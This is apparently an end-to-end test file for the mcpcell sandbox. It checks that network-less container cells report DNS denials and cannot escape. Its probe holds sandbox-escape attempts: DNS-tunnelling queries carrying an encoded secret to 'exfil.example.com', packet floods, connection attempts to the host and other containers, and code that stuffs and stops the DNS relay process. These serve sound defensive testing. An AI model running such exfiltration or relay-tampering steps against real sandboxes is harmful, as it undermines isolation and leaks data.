// Silence on a denied network, in CONTAINER cells (issue 14 item 8): a
// docker, podman or gVisor cell with profile none used to fail with the
// server's own EAI_AGAIN and no word. Now its lookups reach mcpcell's DNS
// stub through a relay in the container and an Engine API exec stream
// (src/cell/docker/dns_report.h), and the first lookup of a host is reported
// with the native cell's sentence (egress_none_report.test.mjs) and audit
// event. The container gains no network: the attacks below show it reaches
// neither the host (loopback, its addresses, the bridge gateway), nor another
// container, nor an outside resolver, nor the stub for anything but an
// NXDOMAIN — every record type, long names, garbage, TCP, a flood.
//
// Runs in the e2e-docker steps (root, and the docker-group user
// mcpcell-docker): MCPCELL_E2E_BACKEND=docker; plain e2e runs skip with that reason.

import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import dgram from 'node:dgram';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';

import { auditEvents, denialLines, egressEvents } from './lib/egress.mjs';
import { engineRequest, ensureNodeImage } from './lib/engine.mjs';
import { runMcpcell } from './lib/mcpcell.mjs';
import { MCPCELL_BIN, NODE_BIN, nodeCellArgs } from './lib/paths.mjs';
import { makeTempDir, removeTempDirs } from './lib/tmp.mjs';

after(removeTempDirs);

const DOCKER_SOCKET = (process.env.DOCKER_HOST ?? 'unix:///var/run/docker.sock').replace(/^unix:\/\//, '');
const PODMAN_SOCKET = process.env.CONTAINER_HOST?.replace(/^unix:\/\//, '') ?? '/run/podman/podman.sock';
const ENABLED = process.env.MCPCELL_E2E_BACKEND === 'docker';
const NODE_IMAGE = 'mcpcell-test/egress-node:1';
const LEVELS = ['docker', 'gvisor', 'podman'];

/** Skips (plain e2e runs, podman as a normal user) or fails loudly when the level's engine is missing. */
async function needEngine(t, level) {
  if (!ENABLED) {
    t.skip('container cells: set MCPCELL_E2E_BACKEND=docker with a running dockerd (scripts/test.sh e2e-docker step)');
    return false;
  }
  if (level === 'podman' && process.getuid() !== 0) {
    t.skip(`podman cells here use root's podman service (${PODMAN_SOCKET}); running as uid ${process.getuid()}`);
    return false;
  }
  if (level === 'podman' && spawnSync('sh', ['-c', 'command -v podman']).status !== 0) {
    t.skip('podman is not installed (scripts/test.sh runs podman cells only where it is)');
    return false;
  }
  const socket = level === 'podman' ? PODMAN_SOCKET : DOCKER_SOCKET;
  let r;
  try {
    r = await engineRequest(socket, 'GET', '/_ping');
  } catch (e) {
    assert.fail(`MCPCELL_E2E_BACKEND=docker but no ${level} engine answers on ${socket}: ${e.message} (start it: scripts/docker.sh)`);
  }
  assert.equal(r.status, 200, `${level} /_ping answered ${r.status}`);
  return true;
}

/**
 * The probe the cell runs (node -e): steps from argv[1], one JSON line of
 * results. Raw DNS is built by hand so every record type and odd packet can
 * be sent; every wait is bounded (a reply that never comes is "timeout").
 */
const PROBE = String.raw`
const dgram = require('node:dgram'), net = require('node:net'), dns = require('node:dns');
const cfg = JSON.parse(process.argv[1]);
let nextId = 1;
function query(name, type) {
  const labels = name.split('.').filter(Boolean).map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l, 'latin1')]));
  const h = Buffer.alloc(12);
  h.writeUInt16BE(nextId++ & 0xffff, 0); h.writeUInt16BE(0x0100, 2); h.writeUInt16BE(1, 4);
  const tail = Buffer.alloc(4); tail.writeUInt16BE(type, 0); tail.writeUInt16BE(1, 2);
  return Buffer.concat([h, ...labels, Buffer.from([0]), tail]);
}
function ask(packet, host = '127.0.0.53', port = 53) {
  return new Promise((resolve) => {
    const s = dgram.createSocket('udp4');
    const done = (v) => { clearTimeout(timer); s.close(); resolve(v); };
    const timer = setTimeout(() => done({ error: 'timeout' }), 3000);
    s.on('error', (e) => done({ error: e.code }));
    s.on('message', (m) => done({ rcode: m[3] & 15, an: m.readUInt16BE(6), ns: m.readUInt16BE(8), ar: m.readUInt16BE(10), size: m.length }));
    s.send(packet, port, host, (e) => { if (e) done({ error: e.code }); });
  });
}
function tcp(host, port) {
  return new Promise((resolve) => {
    const s = net.connect({ host, port, path: host.startsWith('\0') ? host : undefined });
    const done = (v) => { clearTimeout(timer); s.destroy(); resolve(v); };
    const timer = setTimeout(() => done('timeout'), 3000);
    s.on('connect', () => done('connected'));
    s.on('error', (e) => done(e.code));
  });
}
async function lookup(n) {
  try { return (await dns.promises.lookup(n, { all: true })).map((a) => a.address); } catch (e) { return e.code; }
}
(async () => {
  const out = {};
  for (const n of cfg.lookups ?? []) out['lookup ' + n] = await lookup(n);
  for (const [n, t] of cfg.queries ?? []) out['query ' + n + ' ' + t] = await ask(query(n, t));
  if (cfg.garbage) {
    out.garbage = await ask(Buffer.alloc(60000, 0x41));
    out.header_only = await ask(Buffer.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]));
    out.after_garbage = await ask(query('still-answering.example.org', 1));
  }
  if (cfg.flood) {
    const codes = {};
    for (let i = 0; i < cfg.flood; i++) {
      const r = await ask(query('x' + i.toString(16) + '-' + 'c2VjcmV0'.repeat(6) + '.flood.example.net', 16));
      const k = r.error ?? 'rcode' + r.rcode + ' an' + r.an;
      codes[k] = (codes[k] ?? 0) + 1;
    }
    out.flood = codes;
  }
  if (cfg.stopRelay) {
    // The relay runs as the server's uid: find it, stuff its stdout with
    // frames mcpcell must answer, and stop it, so mcpcell's replies pile up.
    const fs = require('node:fs');
    const relay = fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p)).find((p) => {
      try { return fs.readFileSync('/proc/' + p + '/cmdline', 'latin1').startsWith('/run/mcpcell-dns/relay\0serve'); } catch { return false; }
    });
    out.relay_found = relay !== undefined;
    if (relay) {
      try {
        const fd = fs.openSync('/proc/' + relay + '/fd/1', 'w');
        const q = query('stuffed.example.org', 16);
        const h = Buffer.alloc(8); h.writeUInt16BE(q.length, 0); h.writeUInt16BE(9, 2); h.writeUInt32BE(0x7f000001, 4);
        const frame = Buffer.concat([h, q]);
        for (let i = 0; i < 20000; i++) fs.writeSync(fd, frame);
        out.stuffed = 'written';
      } catch (e) { out.stuffed = e.code; }
      process.kill(Number(relay), 'SIGSTOP');
      out.after_stop = await ask(query('after-stop.example.org', 1));
    }
  }
  for (const [h, p] of cfg.tcp ?? []) out['tcp ' + h.replace('\0', '@') + ':' + p] = await tcp(h, p);
  for (const [h, p] of cfg.udp ?? []) out['udp ' + h + ':' + p] = await ask(query('youtube.com', 1), h, p);
  console.log(JSON.stringify(out));
})();`;

/** mcpcell run --isolate=LEVEL --permission-profile none: the probe with `cfg`. */
async function probe(level, cfg, audit) {
  const pids = level === 'gvisor' ? ['--pids', '256'] : [];
  const r = await runMcpcell(['run', `--isolate=${level}`, ...nodeCellArgs(), ...pids, '--relay=off',
    '--permission-profile', 'none', '--audit-log', audit, '--', NODE_BIN, '-e', PROBE, JSON.stringify(cfg)],
  { guardMs: 170_000 });
  assert.equal(r.code, 0, `exit ${r.code}; stderr:\n${r.stderr}`);
  let seen;
  try {
    seen = JSON.parse(r.stdout.trim().split('\n').pop());
  } catch {
    assert.fail(`the probe printed no result; stdout:\n${r.stdout}\nstderr:\n${r.stderr}`);
  }
  return { ...r, seen };
}

// The native cell's words (egress_none_report.test.mjs): one sentence, one wording.
const NATIVE_SENTENCE = /^mcpcell: egress denied: DNS name youtube\.com \((A|AAAA)\) \(network none: this server has no network \(no allow_host or allow_port in its profile or flags\)\); to allow it, pass --allow-host youtube\.com, or in the permission profile: "network": \{"outbound": \{"allow_host": \["youtube\.com"\]\}\}$/;

for (const level of LEVELS) {
  test(`${level} cell, profile none: a lookup of youtube.com is reported on stderr and in the audit log, as in a native cell`, { timeout: 180_000 }, async (t) => {
    if (!(await needEngine(t, level))) return;
    const audit = path.join(makeTempDir('dns-report'), 'audit.jsonl');
    const r = await probe(level, { lookups: ['youtube.com', 'youtube.com', 'localhost'] }, audit);
    assert.equal(r.seen['lookup youtube.com'], 'ENOTFOUND', `not "no such name" (EAI_AGAIN is the old silence): ${JSON.stringify(r.seen)}\n${r.stderr}`);
    assert.ok(Array.isArray(r.seen['lookup localhost']) && r.seen['lookup localhost'].includes('127.0.0.1'), JSON.stringify(r.seen));
    const lines = denialLines(r.stderr, 'youtube.com');
    assert.equal(lines.length, 1, `one sentence per host; stderr:\n${r.stderr}`);
    assert.match(lines[0], NATIVE_SENTENCE);
    assert.deepEqual(denialLines(r.stderr, 'localhost'), [], 'the cell\'s own localhost was reported');
    const events = egressEvents(audit, { host: 'youtube.com' });
    assert.ok(events.length >= 1, JSON.stringify(auditEvents(audit)));
    for (const e of events) {
      assert.equal(e.via, 'dns');
      assert.equal(e.allowed, false);
      assert.match(e.rule, /^network none: this server has no network/);
      assert.match(e.how_to_allow, /^pass --allow-host youtube\.com, or in the permission profile/);
    }
  });
}

/** Every IPv4 address of the host but loopback (its interfaces, docker0's gateway among them). */
function hostV4() {
  return Object.values(os.networkInterfaces()).flat().filter((a) => a && !a.internal && a.family === 'IPv4').map((a) => a.address);
}

/** A TCP listener on every host address; counts who reached it. */
async function hostListener() {
  const seen = [];
  const server = net.createServer((s) => { seen.push(s.remoteAddress); s.destroy(); });
  await new Promise((r) => server.listen(0, '0.0.0.0', r));
  const udp = dgram.createSocket('udp4');
  udp.on('message', (m, from) => seen.push(`udp ${from.address}`));
  await new Promise((r) => udp.bind(0, '0.0.0.0', r));
  return { port: server.address().port, udpPort: udp.address().port, seen, close: () => { server.close(); udp.close(); } };
}

/** A container on the engine's default bridge with a TCP listener; its address and port. */
function bridgeContainer(t) {
  const image = ensureNodeImage(NODE_IMAGE, NODE_BIN);  // docker_egress builds it too, but runs after this file
  assert.equal(image.status, 0, `building ${NODE_IMAGE}: ${image.stderr}`);
  const name = `mcpcell-test-dnsreport-${process.pid}`;
  const run = spawnSync('docker', ['run', '-d', '--rm', '--name', name, '--network', 'bridge', '--entrypoint', 'node', NODE_IMAGE,
    '-e', "require('net').createServer((s)=>s.end('hi')).listen(7777)"], { encoding: 'utf8' });
  assert.equal(run.status, 0, `docker run: ${run.stderr}`);
  t.after(() => spawnSync('docker', ['rm', '-f', name]));
  const ip = spawnSync('docker', ['inspect', '-f', '{{.NetworkSettings.IPAddress}}', name], { encoding: 'utf8' }).stdout.trim();
  const gw = spawnSync('docker', ['network', 'inspect', '-f', '{{(index .IPAM.Config 0).Gateway}}', 'bridge'], { encoding: 'utf8' }).stdout.trim();
  assert.match(ip, /^\d+\.\d+\.\d+\.\d+$/, `no address for ${name}`);
  return { ip, gw, port: 7777 };
}

/** Whether the host itself reaches host:port (so a "not reached" from the cell means something). */
function hostReaches(host, port) {
  return new Promise((resolve) => {
    const s = net.connect({ host, port });
    s.on('connect', () => { s.destroy(); resolve(true); });
    s.on('error', () => resolve(false));
  });
}

for (const level of LEVELS) {
  test(`${level} cell, profile none: nothing gains network — not the host's loopback or addresses, the bridge, another container, an outside resolver, the relay's socket`, { timeout: 180_000 }, async (t) => {
    if (!(await needEngine(t, level))) return;
    const listener = await hostListener();
    t.after(listener.close);
    const other = bridgeContainer(t);
    // The targets are real: the host reaches each of them.
    let up = false;
    for (let i = 0; i < 50 && !up; i++) up = await hostReaches(other.ip, other.port) || (await new Promise((r) => setTimeout(r, 100)), false);
    assert.ok(up, `the host does not reach the bridge container ${other.ip}:${other.port}`);
    assert.ok(await hostReaches('127.0.0.1', listener.port));
    listener.seen.length = 0;  // that one was the host's own
    const tcpTargets = [['127.0.0.1', listener.port], [other.gw, listener.port], [other.ip, other.port],
      ...hostV4().map((a) => [a, listener.port]),
      ['127.0.0.53', 53], ['127.0.0.53', 80], ['\0mcpcell-dns-relay', 0]];
    const udpTargets = [['127.0.0.1', listener.udpPort], [other.gw, listener.udpPort], [other.gw, 53], ['8.8.8.8', 53],
      ...hostV4().map((a) => [a, listener.udpPort]), ['127.0.0.53', 5353]];
    const audit = path.join(makeTempDir('dns-report-reach'), 'audit.jsonl');
    const r = await probe(level, { lookups: ['youtube.com'], tcp: tcpTargets, udp: udpTargets }, audit);
    assert.equal(r.seen['lookup youtube.com'], 'ENOTFOUND', JSON.stringify(r.seen));
    for (const [k, v] of Object.entries(r.seen)) {
      if (k.startsWith('tcp ')) assert.notEqual(v, 'connected', `${k} connected from a cell without network: ${JSON.stringify(r.seen)}`);
      if (k.startsWith('udp ')) assert.ok(v.error !== undefined, `${k} answered a cell without network: ${JSON.stringify(v)}`);
    }
    // DNS over TCP and the relay's hand-over socket (the holder is gone once the relay took it): refused.
    assert.equal(r.seen['tcp 127.0.0.53:53'], 'ECONNREFUSED', JSON.stringify(r.seen));
    assert.equal(r.seen['tcp @mcpcell-dns-relay:0'], 'ECONNREFUSED', JSON.stringify(r.seen));
    assert.deepEqual(listener.seen, [], 'the host listener was reached from the cell');
  });

  test(`${level} cell, profile none: the stub resolves nothing (no record of any type to carry data back), survives garbage and long names`, { timeout: 180_000 }, async (t) => {
    if (!(await needEngine(t, level))) return;
    const types = { A: 1, NS: 2, CNAME: 5, NULL: 10, PTR: 12, MX: 15, TXT: 16, AAAA: 28, SRV: 33, HTTPS: 65, ANY: 255 };
    const secret = 'dGhlLXNlY3JldC1rZXk.exfil.example.com';
    const long = ['a'.repeat(63), 'b'.repeat(63), 'c'.repeat(63), 'd'.repeat(61)].join('.');
    const queries = [...Object.values(types).map((ty) => [secret, ty]), [long, 16], ['8.8.8.8.in-addr.arpa', 12],
      [`${'e'.repeat(70)}.example.com`, 1]];
    const audit = path.join(makeTempDir('dns-report-tunnel'), 'audit.jsonl');
    const r = await probe(level, { queries, garbage: true }, audit);
    for (const [name, type] of queries.slice(0, -1)) {
      const a = r.seen[`query ${name} ${type}`];
      assert.deepEqual({ rcode: a.rcode, an: a.an, ns: a.ns }, { rcode: 3, an: 0, ns: 0 }, `${name} type ${type}: ${JSON.stringify(a)}`);
    }
    // A 70-byte label is no DNS name: refused (FORMERR) or dropped, never answered with data.
    const bad = r.seen[`query ${'e'.repeat(70)}.example.com 1`];
    assert.ok(bad.error === 'timeout' || (bad.an === 0 && bad.rcode !== 0), JSON.stringify(bad));
    assert.ok(r.seen.garbage.error === 'timeout' || r.seen.garbage.an === 0, JSON.stringify(r.seen.garbage));
    assert.ok(r.seen.header_only.error === 'timeout' || r.seen.header_only.an === 0, JSON.stringify(r.seen.header_only));
    assert.deepEqual({ rcode: r.seen.after_garbage.rcode, an: r.seen.after_garbage.an }, { rcode: 3, an: 0 }, 'the stub stopped answering after garbage');
    // Each denied name is on the audit log, the long one whole.
    const hosts = new Set(egressEvents(audit).map((e) => e.host));
    assert.ok(hosts.has(secret.toLowerCase()), [...hosts].join(' '));
    assert.ok(hosts.has(long), [...hosts].join(' '));
  });

  test(`${level} cell, profile none: a flood of 1500 distinct names is answered and reported within bounds`, { timeout: 300_000 }, async (t) => {
    if (!(await needEngine(t, level))) return;
    const audit = path.join(makeTempDir('dns-report-flood'), 'audit.jsonl');
    const n = 1500;
    const r = await probe(level, { flood: n }, audit);
    assert.deepEqual(r.seen.flood, { 'rcode3 an0': n }, 'every query answered NXDOMAIN without an answer');
    // stderr: one sentence for the whole domain (denials are told per parent domain).
    const sentences = r.stderr.split('\n').filter((l) => l.startsWith('mcpcell: egress denied:'));
    assert.equal(sentences.length, 1, `stderr:\n${r.stderr.slice(0, 4000)}`);
    assert.match(sentences[0], /flood\.example\.net/);
    // audit: one line per name, or counted in the summary; never more lines than attempts.
    const lines = egressEvents(audit).filter((e) => e.host.endsWith('.flood.example.net')).length;
    const summary = auditEvents(audit).find((e) => e.event === 'egress_summary');
    const counted = lines + (summary?.held_back_total ?? 0) + (summary?.repeats_total ?? 0);
    assert.equal(counted, n, `lines ${lines}, summary ${JSON.stringify(summary)}`);
    assert.ok(lines <= n);
  });
}

for (const level of ['docker', 'gvisor']) {
  test(`${level} cell, profile none: a server that stuffs and stops the relay only silences itself — mcpcell still ends the run and leaves no container`, { timeout: 180_000 }, async (t) => {
    if (!(await needEngine(t, level))) return;
    const audit = path.join(makeTempDir('dns-report-stop'), 'audit.jsonl');
    const r = await probe(level, { lookups: ['youtube.com'], stopRelay: true }, audit);
    assert.equal(r.seen['lookup youtube.com'], 'ENOTFOUND', JSON.stringify(r.seen));
    assert.equal(r.seen.relay_found, true, `the relay process is not visible to the server: ${JSON.stringify(r.seen)}`);
    assert.equal(r.seen.stuffed, 'written', `the attack did not get to write into the relay's pipe: ${JSON.stringify(r.seen)}`);
    // A stopped relay answers nothing: the lookup times out, as without mcpcell.
    assert.equal(r.seen.after_stop.error, 'timeout', JSON.stringify(r.seen));
    const left = spawnSync('docker', ['ps', '-aq', '--filter', `label=io.mcpcell.supervisor=${r.pid}`], { encoding: 'utf8' });
    assert.equal(left.stdout.trim(), '', 'a container outlived its run');
  });
}

test('docker cell, profile none, /dev/shm mounted noexec: no relay (it could not run, nor the server it wraps); the server runs and a note says why', { timeout: 120_000 }, async (t) => {
  if (!(await needEngine(t, 'docker'))) return;
  if (process.getuid() !== 0) {
    t.skip(`remounting /dev/shm noexec in a mount namespace of the test's own needs root; running as uid ${process.getuid()}`);
    return;
  }
  // A private mount namespace: the host's /dev/shm is untouched; the engine,
  // outside it, binds what mcpcell names, so only mcpcell's check can see noexec.
  const script = 'mount -o remount,noexec /dev/shm && findmnt -no OPTIONS /dev/shm >&2 && exec "$0" "$@"';
  const child = spawn('unshare', ['-m', 'sh', '-c', script, MCPCELL_BIN, 'run', '--isolate=docker', ...nodeCellArgs(),
    '--relay=off', '--permission-profile', 'none', '--', NODE_BIN, '-e',
    "require('dns').lookup('youtube.com', (e) => console.log(e ? e.code : 'resolved'))"], { stdio: ['pipe', 'pipe', 'pipe'] });
  t.after(() => child.kill('SIGKILL'));
  let out = '';
  let err = '';
  child.stdout.setEncoding('utf8').on('data', (d) => (out += d));
  child.stderr.setEncoding('utf8').on('data', (d) => (err += d));
  const code = await new Promise((resolve) => child.on('close', resolve));
  assert.match(err, /noexec/, `the namespace's /dev/shm is not noexec: ${err}`);
  assert.equal(code, 0, `exit ${code}; stderr:\n${err}`);
  assert.notEqual(out.trim(), 'resolved', out);
  assert.match(err, /note: name lookups in this cell are not reported: DNS report relay \/dev\/shm: mounted noexec/, err);
});
